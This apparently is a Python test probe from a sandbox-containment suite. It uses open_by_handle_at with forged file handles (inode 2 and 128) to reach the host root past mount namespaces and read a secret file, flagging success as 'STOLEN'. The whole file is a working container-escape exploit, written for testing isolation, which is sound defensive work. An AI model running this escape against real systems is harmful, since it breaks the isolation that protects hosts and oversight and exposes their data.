"""Opens the host's root folder by a made-up file handle (inode 2) with `open_by_handle_at`, around mount namespaces and path rules.

family: reading
start: solved
preamble: leave_a_trace
"""

# %% first
_achieved, _report = _traces_of("open_by_handle_escape")

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)


class _Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


_stolen = ""
for _path in (b"/", b"/tmp", b"/etc/hosts", b"."):
    try:
        _handle, _mount = _Handle(bytes=128), ctypes.c_int()
        if _libc.name_to_handle_at(-100, _path, ctypes.byref(_handle), ctypes.byref(_mount), 0):
            continue
        _start = os.open(_path, os.O_RDONLY)
        for _inode in (None, 2, 128):
            if _inode is not None:
                _handle.data[:8] = list(_inode.to_bytes(8, "little"))
            _fd = _libc.open_by_handle_at(_start, ctypes.byref(_handle), os.O_RDONLY)
            if _fd >= 0:
                _stolen = f"opened by handle from {_path!r} inode {_inode}"
                try:
                    _file = os.open("work/main/.course-secret", os.O_RDONLY, dir_fd=_fd)
                    _stolen = os.read(_file, 80).decode()
                except OSError:
                    pass
    except Exception:
        continue
if _stolen:
    _achieved(_stolen)
    raise AssertionError("STOLEN: " + _stolen)
